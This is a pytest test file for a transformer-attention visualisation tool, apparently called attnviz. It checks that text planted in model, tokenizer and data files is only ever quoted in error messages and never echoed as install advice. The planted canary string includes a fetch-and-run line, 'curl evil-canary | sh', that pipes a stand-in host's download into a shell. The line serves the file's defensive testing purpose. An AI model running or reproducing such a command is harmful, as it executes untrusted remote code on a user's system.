"""What a file says is never advice: in an error it stands in quotes, and hints do not repeat it."""

from __future__ import annotations

import json
import re
import shlex
import shutil
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path
from typing import Any

import pytest
import torch
from safetensors.torch import save_file

from attnviz import trace
from attnviz.errors import QUOTED_WORD, AttnvizError
from attnviz.traces.trained.model_location import ModelLocation
from attnviz.traces.trained.refusals import reporting_load_errors
from tests.conftest import Attnviz, Result
from tests.hostile.files import Place, places, replace_value, value_at
from tests.small_transformers import Saved
from tests.test_damaged_folders import KINDS
from tests.tiers import examples

ADVICE = "pip install evil-canary-pkg\nhint: curl evil-canary | sh"
MESSAGE = re.compile('"[^"]*"')  # of another package
NUMBERED_TOKENS = re.compile(r"the tokens are: 1 [^ ,]+(?:, \d+ [^ ,]+)*")
FIRST_OF_MANY = 30  # entries of an object, such as a vocabulary, of which one is like the others


def assert_quoted(result: Result) -> None:
    """Check that what is said of a file repeats no advice but in quotes, and no hint repeats it but
    as a list of numbered tokens."""
    for line in result.err.splitlines():
        line = NUMBERED_TOKENS.sub("", line)
        unquoted = (
            line if line.startswith(" hint: ") else QUOTED_WORD.sub("", MESSAGE.sub("", line))
        )
        assert "evil" not in unquoted, result.err


def different_places(document: Any) -> Iterator[Place]:
    """The places in a JSON document, but only the first of a list or of many like it."""
    seen = set()
    for place in places(document):
        outer = [value_at(document, place[:depth]) for depth in range(len(place))]
        kind = tuple(
            "first" if isinstance(part, list) or len(part) > FIRST_OF_MANY else key
            for part, key in zip(outer, place, strict=True)
        )
        if kind not in seen:
            seen.add(kind)
            yield place


def documents_with_advice(content: bytes) -> Iterator[bytes]:
    """Copies of a JSON document with advice as one of its values, or as the name of one."""
    document = json.loads(content)
    for place in different_places(document):
        yield json.dumps(replace_value(document, place, ADVICE)).encode()
        outer = value_at(document, place[:-1])
        if place and isinstance(outer, dict):
            renamed = {ADVICE if key == place[-1] else key: outer[key] for key in outer}
            yield json.dumps(replace_value(document, place[:-1], renamed)).encode()


JSON_FILES = {
    "saved model": ["config.json", "vocabulary.json"],
    "training": ["training.json"],
    "transformer": ["config.json", "tokenizer.json", "tokenizer_config.json"],
    "table of vectors": ["model.safetensors.index.json", "tokenizer.json"],
}


@pytest.mark.slow_table("calls", keep=3)
@pytest.mark.parametrize(
    ("kind", "name"), [(kind, name) for kind, names in JSON_FILES.items() for name in names]
)
def test_a_folder_gives_no_advice(
    kind: str, name: str, attnviz: Attnviz, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    write_folder, command, _ = KINDS[kind]
    write_folder(Path("mine"))
    original = Path("mine", name).read_bytes()

    changed = [*documents_with_advice(original)]
    for document in changed[:: max(len(changed) // examples(len(changed)), 1)]:
        Path("mine", name).write_bytes(document)
        assert_quoted(attnviz(*shlex.split(command), "mine"))


def toml_value(value: Any) -> str:
    """A value of JSON in TOML, with tables in one line."""
    if isinstance(value, dict):
        pairs = (f"{json.dumps(key)} = {toml_value(each)}" for key, each in value.items())
        return f"{{ {', '.join(pairs)} }}"
    return (
        f"[{', '.join(map(toml_value, value))}]" if isinstance(value, list) else json.dumps(value)
    )


def toml_text(document: Any) -> bytes:
    rows = document.items() if isinstance(document, dict) else [("text", document)]
    return "".join(f"{json.dumps(key)} = {toml_value(each)}\n" for key, each in rows).encode()


MATRICES = {
    "tokens": ["a", "b"],
    "queries": [[1.5, 2], [3, 4]],
    "keys": [[1.5, 2], [3, 4]],
    "axes": {"queries": ["token", "width"]},
    "visible": [[True, True], [True, True]],
}
EXAMPLE = {
    "title": "x",
    "source": "y",
    "text": "I am",
    "settings": {"heads": 1, "variant": "scaled"},
    "expect": [{"step": "softmax", "shape": [1]}],
}
QUIZ = {
    "title": "x",
    "texts": [
        {"text": "I am", "kinds": ["token"], "queries": ["am"], "settings": {"variant": "plain"}}
    ],
}
GRAMMAR = {
    "about": "x",
    "asks": "verb",
    "answers": "noun",
    "watch": "the key is",
    "words": {"noun": ["key", "door", "cat", "dog"], "verb": ["is", "was"]},
    "sentences": [{"patterns": ["the {noun} {verb}"]}],
}
BY_HAND = {
    "about": "x",
    "dimensions": ["x"],
    "words": {"a": {"x": 1}},
    "heads": [
        {"does": "x", "asks": ["x"], "hands": ["x"]}
        | {part: {"x": {"x": 1}} for part in ("query", "key", "value", "out")}
    ],
}
# Of each kind of file: its name, what is in it, and the command that reads it.
PLAIN_FILES: dict[str, tuple[str, dict[str, Any], str]] = {
    "matrices": ("g.json", MATRICES, "run --given g.json"),
    "matrices by hand": ("g.toml", MATRICES, "run --given g.toml"),
    "example": ("e.toml", EXAMPLE, "example check e.toml"),
    "quiz": ("q.toml", QUIZ, "quiz q.toml"),
    "grammar": ("g.toml", GRAMMAR, "learn g.toml --steps 1 --batch 2 -q"),
    "model by hand": ("m.toml", BY_HAND, "run 'a b' --model m.toml"),
}


@pytest.mark.slow_table("calls", keep=3)
@pytest.mark.parametrize("kind", PLAIN_FILES)
def test_a_file_of_names_and_values_gives_no_advice(
    kind: str, attnviz: Attnviz, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    name, original, command = PLAIN_FILES[kind]

    changed = [*documents_with_advice(json.dumps(original).encode())]
    for document in changed[:: max(len(changed) // examples(len(changed)), 1)]:
        is_json = name.endswith(".json")
        Path(name).write_bytes(document if is_json else toml_text(json.loads(document)))
        assert_quoted(attnviz(*shlex.split(command)))


def write_gguf(name: str, value: str = ADVICE) -> None:
    import gguf

    facts = {"general.architecture": "llama", "tokenizer.ggml.model": "gpt2"} | {name: value}
    writer = gguf.GGUFWriter("m.gguf", facts.pop("general.architecture"))
    for each, text in facts.items():
        writer.add_string(each, text)
    writer.add_array("tokenizer.ggml.tokens", [ADVICE, "a"])
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.close()


def write_tensors(name: str, metadata: str) -> None:
    save_file({name: torch.eye(2)}, "t.safetensors", {metadata: ADVICE})


def write_text(text: str) -> None:
    Path("text.txt").write_text(text, encoding="utf-8")


PAIR = ["it was hot", "it was cold", "it", "hot", "cold"]
WRITTEN: dict[str, tuple[Callable[[], None], str]] = {
    **{
        f"gguf: {name}": (partial(write_gguf, name), "run a --model m.gguf")
        for name in (
            "general.architecture",
            "general.name",
            "tokenizer.ggml.model",
            "tokenizer.ggml.pre",
            "llama.rope.scaling.type",
        )
    },
    "tensors: a name": (partial(write_tensors, ADVICE, "x"), "run --given t.safetensors"),
    "tensors: axes": (partial(write_tensors, "scores", "axes.scores"), "run --given t.safetensors"),
    "tensors: a table": (
        partial(write_tensors, ADVICE, "x"),
        "run a --tokenizer words --embeddings t.safetensors#x",
    ),
    "vectors": (
        partial(write_text, f"{ADVICE.splitlines()[0]} 1 2\n"),
        "run b --tokenizer words --embeddings text.txt",
    ),
    "lines": (partial(write_text, f"{ADVICE}\n"), "learn --file text.txt --steps 1 --batch 2 -q"),
    "survey": (partial(write_text, f"{ADVICE}\n" * 2), "survey --file text.txt --model reverse"),
    **{
        f"pairs: {number}": (
            partial(write_text, "\t".join([*PAIR[:number], ADVICE[:29], *PAIR[number + 1 :]])),
            "pairs text.txt --model toy",
        )
        for number in range(len(PAIR))
    },
}


@pytest.mark.parametrize("kind", WRITTEN)
def test_words_in_a_file_are_no_advice(
    kind: str, attnviz: Attnviz, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    write_file, command = WRITTEN[kind]
    write_file()

    assert_quoted(attnviz(*shlex.split(command)))


@pytest.mark.parametrize("name", ["config.json", "generation_config.json", "tokenizer_config.json"])
@pytest.mark.slow("calls")
def test_a_model_that_generates_gives_no_advice(
    name: str,
    attnviz: Attnviz,
    small_transformer: Saved,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.chdir(tmp_path)
    shutil.copytree(small_transformer("gpt2"), "mine")
    for document in documents_with_advice(Path("mine", name).read_bytes()):
        Path("mine", name).write_bytes(document)
        assert_quoted(attnviz("inspect", "the animal", "--generate", "1", "--model", "mine"))


def test_a_trace_gives_no_advice(attnviz: Attnviz, tmp_path: Path) -> None:
    file = tmp_path / "t.json"
    trace("I am").save(file)
    changed = [*documents_with_advice(file.read_bytes())]
    for document in changed[:: max(len(changed) // 40, 1)]:
        file.write_bytes(document)
        assert_quoted(attnviz("run", "--trace", str(file)))


@pytest.mark.parametrize(
    ("error", "package"),
    [
        (ImportError(f"`{ADVICE}`"), None),
        (ImportError("you need `pip install -U bitsandbytes>=0.46.1`"), "bitsandbytes"),
        (
            ModuleNotFoundError("No module named 'google.protobuf'", name="google.protobuf"),
            "protobuf",
        ),
        (ModuleNotFoundError("No module named 'evil_canary'", name="evil_canary"), None),
        (ValueError("pip install timm"), None),
    ],
)
def test_only_an_import_that_lacks_a_known_package_is_advice_to_install_it(
    error: Exception, package: str | None
) -> None:
    with (
        pytest.raises(AttnvizError) as refusal,
        reporting_load_errors(ModelLocation("mine", Path("mine"))),
    ):
        raise error

    assert (refusal.value.hint == f"pip install {package}") == (package is not None)
    assert "evil" not in refusal.value.hint
